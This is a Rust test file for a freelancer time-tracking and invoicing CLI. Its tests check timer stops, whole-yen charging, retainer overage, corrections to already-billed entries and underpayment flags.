/// A timer left running since an earlier day is stopped at a bare time: that time of the day
/// it began (it was refused as not a date).
#[test]
fn a_timer_from_an_earlier_day_stops_at_a_bare_time_of_that_day() {
    let mut d = Desk::new();
    d.ok(&["client", "add", "Acme"]);
    d.at("2026-11-20 09:15").ok(&["time", "start", "--client", "Acme"]);
    d.at("2026-11-23 10:00");
    let (_, err) = d.fails(&["time", "stop", "--at", "25:00"]);
    assert!(err.contains("25:00"), "{err}");
    // Before it began, that day: refused, never the next morning (23 hours).
    let (_, err) = d.fails(&["time", "stop", "--at", "08:00"]);
    assert!(err.contains("08:00"), "{err}");
    assert!(
        d.json(&["time", "list", "--json"])[0]["minutes"].is_null(),
        "still running"
    );
    d.ok(&["time", "stop", "--at", "17:30"]);
    let e = &d.json(&["time", "list", "--json"])[0];
    assert_eq!(
        (e["start"].as_str(), e["minutes"].as_i64()),
        (Some("2026-11-20 09:15"), Some(8 * 60 + 15)),
        "{e}"
    );
}

/// An amount in a currency without decimals is charged in whole units: 7 minutes at ¥3,001 an
/// hour is ¥350, not ¥350.12 (`amount_cents` kept a fraction of a yen), in a statement, in every
/// client's statement and in the Month view's sums alike.
#[test]
fn time_in_yen_is_charged_in_whole_yen() {
    let d = Desk::new();
    d.ok(&["client", "add", "Tokyo", "--currency", "JPY", "--rate", "3001"]);
    d.ok(&["time", "log", "--client", "Tokyo", "7m", "--on", "2026-11-20 10:00"]);
    let one = d.json(&["statement", "Tokyo", "--month", "2026-11", "--json"]);
    assert_eq!(one["amount_cents"], 35000, "{one}");
    assert_eq!(one["effective_rate_cents"].as_i64().map(|c| c % 100), Some(0), "{one}");
    let all = d.json(&["statement", "--all", "--month", "2026-11", "--json"]);
    assert!(all.to_string().contains("\"amount_cents\":35000"), "{all}");
}

/// The retainer's use counts time as billed, as its overage is charged: six entries of 8
/// minutes under a 15-minute increment are 1h30m against a 1h retainer (used up, 30 minutes of
/// overage charged), not 48 minutes (80%: nothing said while the overage was charged). The same
/// with the increment from the config for a client that sets none.
#[test]
fn a_retainer_s_use_counts_time_as_it_is_billed() {
    for own_increment in [true, false] {
        let mut d = Desk::new();
        d.at("2026-03-20 09:00");
        let mut add = vec![
            "client",
            "add",
            "Bloom",
            "--retainer",
            "1",
            "--fee",
            "100",
            "--rate",
            "60",
        ];
        if own_increment {
            add.extend(["--increment", "15m"]);
        } else {
            config(&d, "increment = \"15m\"\n");
        }
        d.ok(&add);
        for day in 2..8 {
            d.ok(&[
                "time",
                "log",
                "--client",
                "Bloom",
                "8m",
                "--on",
                &format!("2026-03-0{day} 09:00"),
            ]);
        }
        let st = d.json(&["statement", "Bloom", "--month", "2026-03", "--json"]);
        assert_eq!(
            (st["billed_minutes"].as_u64(), st["overage_minutes"].as_u64()),
            (Some(90), Some(30)),
            "{st}"
        );
        let json = d.json(&["review", "--json"]);
        let item = json["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["kind"] == "retainer_used_up")
            .unwrap_or_else(|| panic!("own increment {own_increment}: {json}"));
        assert_eq!(item["title"], "1h 30m / 1h 00m (150%)");
    }
}

/// What was invoiced stays invoiced. A billed entry corrected afterwards (`--force`) changes
/// what is still to invoice, up or down (owed back), never what was invoiced; deleted with
/// `--force` it is emptied (0m) and stays on its month, so what was invoiced for it shows as
/// owed back. "Already invoiced" followed the entries as they are now, so the difference was
/// never due. An export and an import keep it.
#[test]
fn a_billed_entry_corrected_afterwards_leaves_what_was_invoiced() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "60"]);
    let a = d
        .id(&["time", "log", "--client", "Acme", "1h", "--on", "2026-03-02 09:00"])
        .to_string();
    let b = d
        .id(&["time", "log", "--client", "Acme", "30m", "--on", "2026-03-03 09:00"])
        .to_string();
    d.ok(&["statement", "Acme", "--month", "2026-03", "--mark-billed"]);
    let due = |d: &Desk| d.json(&["statement", "Acme", "--month", "2026-03", "--json"])["amount_cents"].clone();
    assert_eq!(due(&d), 0);
    // Moved to another month, October's invoice would lose it: refused.
    let before = d.snapshot();
    let (_, err) = d.fails(&["time", "edit", &a, "--on", "2026-04-01 09:00", "--force"]);
    assert!(
        err.contains("March 2026") && err.contains("stays in that month"),
        "{err}"
    );
    assert_eq!(d.snapshot(), before);
    d.ok(&["time", "edit", &a, "--on", "2026-03-05 09:00", "--force"]);
    // Forgot half an hour on the first: it is due.
    d.ok(&["time", "edit", &a, "--minutes", "1h30m", "--force"]);
    assert_eq!(due(&d), 3000);
    // Invoiced: billing the month again settles it, and says so (not a retainer's fee).
    let out = d
        .cmd()
        .args(["statement", "Acme", "--month", "2026-03", "--mark-billed"])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("1 billed entry corrected since is now invoiced as it is") && !said.contains("fee"),
        "{said}"
    );
    assert_eq!(due(&d), 0);
    // Half an hour more found later: due again.
    d.ok(&["time", "edit", &a, "--minutes", "2h", "--force"]);
    assert_eq!(due(&d), 3000);
    let listed = d.json(&["time", "list", "--json"]);
    let first = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"].as_i64().map(|i| i.to_string()).as_deref() == Some(a.as_str()))
        .unwrap();
    assert_eq!(
        (first["minutes"].as_u64(), first["invoiced_minutes"].as_u64()),
        (Some(120), Some(90)),
        "{first}"
    );
    // The second was not worked at all: deleted, it is emptied, and its half hour is owed back.
    let said = d.ok(&["time", "delete", &b, "--force"]);
    assert!(said.contains("emptied") && said.contains("Fri 20 Mar"), "{said}");
    assert_eq!(due(&d), 0, "30 minutes due, 30 owed back");
    let st = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    let entries = st["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 2, "the emptied entry stays on its month: {st}");
    // Deleted again, it stays emptied.
    d.ok(&["time", "delete", &b, "--force"]);
    assert_eq!(d.json(&["time", "list", "--json"]).as_array().unwrap().len(), 2);
    // An unbilled entry is deleted for good, as always.
    let c = d
        .id(&["time", "log", "--client", "Acme", "15m", "--on", "2026-03-04 09:00"])
        .to_string();
    d.ok(&["time", "delete", &c]);
    assert_eq!(d.json(&["time", "list", "--json"]).as_array().unwrap().len(), 2);
    assert_eq!(due(&d), 0);
    // Through an export into another store, the same.
    let file = d.dir.path().join("out.json");
    d.ok(&["export", "--out", file.to_str().unwrap()]);
    let other = Desk::new();
    other.ok(&["import", file.to_str().unwrap()]);
    assert_eq!(due(&other), 0);
    other.ok(&["time", "delete", &a, "--force"]);
    assert_eq!(due(&other), -12000, "all that was invoiced owed back");
    let text = other.ok(&["statement", "Acme", "--month", "2026-03"]);
    assert!(
        text.contains("owed back to the client") && text.contains("€120.00"),
        "{text}"
    );
    assert!(
        text.contains("invoiced as 30m") && text.contains("invoiced as 1h 30m"),
        "{text}"
    );
    let text = other.ok(&["--lang", "es", "statement", "Acme", "--month", "2026-03"]);
    assert!(
        text.contains("a devolver al cliente") && text.contains("120,00 €"),
        "{text}"
    );
    assert!(text.contains("se facturó como 30m"), "{text}");
    let csv = other.ok(&["statement", "Acme", "--month", "2026-03", "--csv"]);
    assert!(csv.contains(",0,0,90,true,") && csv.contains(",0,0,30,true,"), "{csv}");
}

/// A store billed before entries kept their minutes as invoiced, upgraded: its billed entries
/// were billed as they are, and a correction after the upgrade is due.
#[test]
fn an_upgraded_store_keeps_its_billed_minutes_as_invoiced() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "60"]);
    let a = d
        .id(&["time", "log", "--client", "Acme", "1h", "--on", "2026-03-02 09:00"])
        .to_string();
    d.ok(&["statement", "Acme", "--month", "2026-03", "--mark-billed"]);
    {
        let c = rusqlite::Connection::open(&d.db).unwrap();
        common::triggers_back_in_the_file(&c);
        c.execute_batch(&format!("{UNDO_INVOICED_MINUTES} PRAGMA user_version = 23;"))
            .unwrap();
    }
    d.ok(&["doctor"]);
    assert_eq!(count(&d.db, "SELECT billed_min FROM time_entries WHERE id = 1"), 60);
    d.ok(&["time", "edit", &a, "--minutes", "2h", "--force"]);
    let st = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    assert_eq!(st["amount_cents"], 6000, "{st}");
}

/// `underpaying` judges a billed month under the terms it was billed under, as its statement
/// does: October billed at 50 an hour, the rate lowered to 20 in November, is not underpaid
/// (the flag said so from the new rate alone); November's own hours at 20 bring the three
/// months under 40.
#[test]
fn underpaying_judges_a_billed_month_by_the_terms_it_was_billed_under() {
    let mut d = Desk::new();
    config(&d, "min_rate = 40\n");
    d.at("2026-10-01 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "50"]);
    d.at("2026-11-02 09:00");
    d.ok(&["time", "log", "--client", "Acme", "10h", "--on", "2026-10-05 09:00"]);
    d.ok(&["statement", "Acme", "--month", "2026-10", "--mark-billed"]);
    d.ok(&["client", "edit", "Acme", "--rate", "20"]);
    let underpaying = |d: &Desk| {
        d.json(&["flag", "list", "--json"])
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["kind"] == "underpaying")
            .count()
    };
    d.ok(&["tick", "--once"]);
    assert_eq!(underpaying(&d), 0, "October was invoiced at 50 an hour");
    d.ok(&["doctor"]);
    d.at("2026-11-20 09:00");
    d.ok(&["time", "log", "--client", "Acme", "10h", "--on", "2026-11-10 09:00"]);
    d.ok(&["tick", "--once"]);
    assert_eq!(underpaying(&d), 1, "(500 + 200) / 20h = 35 an hour");
    d.ok(&["doctor"]);
}

/// Stopping a timer never counts the same minutes twice: an end reaching into another entry is
/// refused, as logging it is (it was saved, and both were billed). A timer moved to another
/// client within its first minute leaves nothing behind (it left a billable 0-minute entry).
#[test]
fn a_timer_stops_without_overlap_and_a_first_minute_move_leaves_nothing() {
    let mut d = Desk::new();
    d.ok(&["client", "add", "Acme"]);
    d.ok(&["client", "add", "Bloom"]);
    d.at("2026-11-20 12:00");
    d.ok(&["time", "log", "--client", "Acme", "1h", "--on", "2026-11-20 10:00"]);
    d.at("2026-11-20 09:00").ok(&["time", "start", "--client", "Bloom"]);
    d.at("2026-11-20 12:00");
    let running = d.snapshot();
    let (_, err) = d.fails(&["time", "stop", "--at", "10:30"]);
    assert!(err.contains("Acme"), "{err}");
    assert_eq!(d.snapshot(), running, "refused: nothing changed, the timer still runs");
    d.ok(&["time", "stop", "--at", "10:00"]);
    // Moved within its first minute.
    d.at("2026-11-20 13:00").ok(&["time", "start", "--client", "Acme"]);
    let out = d.cmd().args(["time", "start", "--client", "Bloom"]).output().unwrap();
    assert!(out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("nothing logged"), "{said}");
    let entries = d.json(&["time", "list", "--json"]);
    assert!(
        entries.as_array().unwrap().iter().all(|e| e["minutes"] != 0),
        "no empty entry: {entries}"
    );
}
